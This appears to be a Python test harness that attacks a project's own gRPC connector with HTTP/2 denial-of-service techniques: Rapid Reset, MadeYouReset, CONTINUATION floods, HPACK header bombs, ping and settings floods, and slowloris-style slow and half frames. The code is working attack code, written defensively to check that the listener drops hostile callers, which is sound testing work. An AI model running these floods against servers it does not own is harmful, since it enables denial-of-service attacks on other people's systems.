"""Attacks on the gRPC listener over plain sockets, each of a caller that does not mean well.

Every attack takes an address and a number of seconds, goes on until the time is up or the connector has ended all of its
connections, and answers what it saw. Run as a program it does one of them and prints that as JSON.
"""

import contextlib
import json
import os
import resource
import selectors
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
METHOD = "/latchkey.v1.ConnectorService/GetVersion"


def frame(kind, flags=0, stream=0, payload=b"", length=None):
    """One frame; `length` lies about its payload."""
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _number(value, bits, first=0):
    """An integer of HPACK (RFC 7541, section 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def _text(text):
    raw = text if isinstance(text, bytes) else text.encode()
    return _number(len(raw), 7) + raw


def field(name, value, indexed=False):
    """A header field, literal; kept in the table of the peer where it is `indexed`."""
    return (b"\x40" if indexed else b"\x00") + _text(name) + _text(value)


def head(path=METHOD, *more):
    """The header block of a call."""
    named = [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "connector"),
        ("te", "trailers"), ("content-type", "application/grpc"), *more,
    ]  # fmt: skip
    return b"".join(field(name, value) for name, value in named)


EMPTY = b"\0\0\0\0\0"


class Peer:
    """One connection. What the connector says is read by a thread of its own, unless that is part of the attack."""

    def __init__(self, address, reads=True, begins=True):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=10)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.ended = threading.Event()
        self.said = bytearray()
        self.heard = 0
        if reads:
            threading.Thread(target=self._read, daemon=True).start()
        if begins:
            self.send(PREFACE + frame(SETTINGS))

    def _read(self):
        try:
            self.socket.settimeout(None)
            while piece := self.socket.recv(1 << 16):
                self.heard += len(piece)
                if len(self.said) < 1 << 16:
                    self.said += piece
        except OSError:
            pass
        self.ended.set()

    def send(self, content):
        """Answers whether it could be sent."""
        try:
            self.socket.sendall(content)
        except OSError:
            self.ended.set()
        return not self.ended.is_set()

    def close(self):
        # A thread that reads is woken by this, and not by `close` alone.
        with contextlib.suppress(OSError):
            self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()


def _stream(address, seconds, pieces, reads=True):
    """Sends what `pieces` gives until the time is up or the connection has ended, and anew while there is time."""
    end, sent, connections, ended = time.monotonic() + seconds, 0, 0, 0
    last = None
    while time.monotonic() < end:
        try:
            peer = Peer(address, reads)
        except OSError:
            time.sleep(0.05)
            continue
        connections += 1
        for piece in pieces():
            if not peer.send(piece) or time.monotonic() > end:
                break
            sent += len(piece)
        # What was sent to the end may be answered yet.
        peer.ended.wait(max(0.0, end - time.monotonic()) if reads else 0)
        ended += peer.ended.is_set()
        last = peer
        peer.close()
    return {"connections": connections, "ended": ended, "bytes": sent, "heard": last.heard if last else 0}


def rapid_reset(address, seconds):
    """Calls that are taken back at once (CVE-2023-44487)."""

    def pieces():
        block = head()
        for first in range(1, 1 << 24, 200):
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, struct.pack(">I", 8))
                for stream in range(first, first + 200, 2)
            )

    return _stream(address, seconds, pieces)


def made_you_reset(address, seconds):
    """Calls that the connector itself has to reset, for a window that overflows (CVE-2025-8671)."""

    def pieces():
        block = head()
        for first in range(1, 1 << 24, 200):
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, block)
                + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFF_FFFF))
                for stream in range(first, first + 200, 2)
            )

    return _stream(address, seconds, pieces)


def continuation_flood(address, seconds):
    """Headers that never end (CVE-2024-27316)."""

    def pieces():
        yield frame(HEADERS, 0, 1, head())
        while True:
            yield frame(CONTINUATION, 0, 1, field("x-more", b"a" * 8000))

    return _stream(address, seconds, pieces)


def empty_continuations(address, seconds):
    """The same without a byte in them: counted by size they would be nothing."""

    def pieces():
        yield frame(HEADERS, 0, 1, head())
        while True:
            yield frame(CONTINUATION, 0, 1) * 500

    return _stream(address, seconds, pieces)


def oversized_headers(address, seconds):
    """Metadata of many times the limit on every call."""

    def pieces():
        for stream in range(1, 1 << 24, 2):
            block = head(METHOD, *((f"x-{number}", b"v" * 4000) for number in range(4)))
            yield frame(HEADERS, 0, stream, block[:16_000])
            yield frame(CONTINUATION, END_HEADERS, stream, block[16_000:] + field("x-last", b"v" * 12_000))
            yield frame(DATA, END_STREAM, stream, EMPTY)

    return _stream(address, seconds, pieces)


def header_bomb(address, seconds):
    """A few bytes that name one long header thousands of times."""

    def pieces():
        for stream in range(1, 1 << 24, 2):
            # 62 is the newest entry of the table.
            block = head() + (field("x-bomb", b"b" * 3900, indexed=True) if stream == 1 else b"") + b"\xbe" * 12_000
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)

    return _stream(address, seconds, pieces)


def settings_flood(address, seconds):
    """Settings without end, each of which wants an acknowledgement."""
    return _stream(address, seconds, lambda: iter(lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 500, None))


def deaf_settings_flood(address, seconds):
    """The same by a peer that never reads the acknowledgements."""
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 500
    return _held(address, seconds, one)


def ping_flood(address, seconds):
    """Pings without end."""
    return _stream(address, seconds, lambda: iter(lambda: frame(PING, 0, 0, b"12345678") * 500, None))


def deaf_ping_flood(address, seconds):
    """The same by a peer that never reads the answers."""
    return _held(address, seconds, frame(PING, 0, 0, b"12345678") * 500)


def _held(address, seconds, piece):
    """Sends as fast as the connector takes it and never reads; one connection until it is closed."""
    end, sent = time.monotonic() + seconds, 0
    peer = Peer(address, reads=False)
    peer.socket.setblocking(False)
    rest = b""
    while time.monotonic() < end:
        try:
            rest = rest or piece
            count = peer.socket.send(rest)
            sent, rest = sent + count, rest[count:]
        except BlockingIOError:
            time.sleep(0.02)
        except OSError:
            peer.ended.set()
            break
    peer.close()
    return {"connections": 1, "ended": int(peer.ended.is_set()), "bytes": sent, "heard": 0}


def window_flood(address, seconds):
    """Window updates and priorities that change nothing."""
    one = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) + frame(PRIORITY, 0, 7, struct.pack(">IB", 3, 1))
    return _stream(address, seconds, lambda: iter(lambda: one * 500, None))


def empty_data_flood(address, seconds):
    """One call whose body is frames without a byte."""

    def pieces():
        yield frame(HEADERS, END_HEADERS, 1, head())
        while True:
            yield frame(DATA, 0, 1) * 500

    return _stream(address, seconds, pieces)


def unknown_frames(address, seconds):
    """Frames of a kind that nobody knows, which have to be skipped."""
    return _stream(address, seconds, lambda: iter(lambda: frame(0x42, 0xFF, 9, b"x" * 16_000), None))


def giant_messages(address, seconds):
    """Messages that say they are four gigabytes, or exactly as long as allowed, and do not come."""

    def pieces():
        for stream in range(1, 1 << 24, 2):
            length = 0xFFFF_FFFF if stream % 4 == 1 else 256 * 1024
            yield frame(HEADERS, END_HEADERS, stream, head())
            yield frame(DATA, 0, stream, b"\0" + struct.pack(">I", length) + b"x" * 1000)

    return _stream(address, seconds, pieces)


def zero_window(address, seconds):
    """Calls whose answers may not be sent, as many as are taken."""

    def pieces():
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
        for stream in range(1, 1 << 16, 2):
            yield frame(HEADERS, END_HEADERS, stream, head()) + frame(DATA, END_STREAM, stream, EMPTY)
            time.sleep(0.001)

    return _stream(address, seconds, pieces)


def garbage(address, seconds):
    """A good beginning, and then noise."""
    return _stream(address, seconds, lambda: iter([os.urandom(1 << 16)]))


def other_protocols(address, seconds):
    """HTTP/1.1, the hello of TLS, and noise, where HTTP/2 is spoken."""
    end, connections, ended = time.monotonic() + seconds, 0, 0
    hello = bytes.fromhex("16030100f8010000f40303") + os.urandom(240)
    while time.monotonic() < end:
        for first in (b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n" * 3, hello, os.urandom(4096)):
            peer = Peer(address, begins=False)
            connections += 1
            peer.send(first)
            ended += peer.ended.wait(10)
            peer.close()
    return {"connections": connections, "ended": ended, "bytes": 0, "heard": 0}


def _crowd(address, seconds, size, first, each=b"", every=0.5):
    """Many connections that begin with `first` and say `each` now and then; answers how many the connector ended."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard if hard < 0 else max(soft, min(hard, size + 512)), hard))
    host, port = address.rsplit(":", 1)
    end, ended, living = time.monotonic() + seconds, 0, set()
    with selectors.DefaultSelector() as selector:
        for number in range(size):
            one = socket.create_connection((host, int(port)), timeout=10)
            one.setblocking(False)
            with contextlib.suppress(OSError):
                one.send(first(number))
            selector.register(one, selectors.EVENT_READ, number)
            living.add(one)
        most = len(living)
        again, at = time.monotonic() + every, 0
        while time.monotonic() < end and living:
            for key, _ in selector.select(min(0.2, every)):
                try:
                    gone = not key.fileobj.recv(1 << 16)
                except BlockingIOError:
                    continue
                except OSError:
                    gone = True
                if gone:
                    ended += 1
                    selector.unregister(key.fileobj)
                    living.discard(key.fileobj)
                    key.fileobj.close()
            if each and time.monotonic() >= again:
                again, at = time.monotonic() + every, at + 1
                for one in living:
                    with contextlib.suppress(OSError):
                        one.send(each[at % len(each)])
    for one in living:
        one.close()
    return {"connections": most, "ended": ended, "bytes": 0, "heard": 0}


def idle_connections(address, seconds):
    """Two thousand connections of which half begin, and none calls."""
    return _crowd(address, seconds, 2000, lambda number: PREFACE + frame(SETTINGS) if number % 2 else b"")


def slow_preface(address, seconds):
    """A byte of the beginning now and then."""
    return _crowd(address, seconds, 200, lambda _: PREFACE[:1], [PREFACE[at : at + 1] for at in range(20)])


def half_frames(address, seconds):
    """Frames of which the end does not come: settings, headers of a call, its body."""
    begun = PREFACE + frame(SETTINGS)
    halves = [
        frame(SETTINGS, 0, 0, b"\0\4", length=6),
        frame(HEADERS, END_HEADERS, 1, head()[:9], length=16_000),
        frame(HEADERS, END_HEADERS, 1, head()) + frame(DATA, 0, 1, EMPTY[:3], length=5),
        frame(HEADERS, 0, 1, head()),
        frame(PING, 0, 0, b"1", length=8)[:8],
    ]
    return _crowd(address, seconds, 200, lambda number: begun + halves[number % len(halves)])


def dripping_frames(address, seconds):
    """The same, and a byte more now and then."""
    begun = PREFACE + frame(SETTINGS)
    whole = frame(HEADERS, END_HEADERS, 1, head()[:9], length=16_000)
    return _crowd(address, seconds, 200, lambda _: begun + whole, [b"\0"])


ATTACKS = {
    each.__name__: each
    for each in (
        idle_connections, slow_preface, half_frames, dripping_frames, rapid_reset, made_you_reset, continuation_flood,
        empty_continuations, oversized_headers, header_bomb, settings_flood, deaf_settings_flood, ping_flood,
        deaf_ping_flood, window_flood, empty_data_flood, unknown_frames, giant_messages, zero_window, garbage,
        other_protocols,
    )
}  # fmt: skip


if __name__ == "__main__":
    name, address, seconds = sys.argv[1:4]
    print(json.dumps(ATTACKS[name](address, float(seconds))), flush=True)
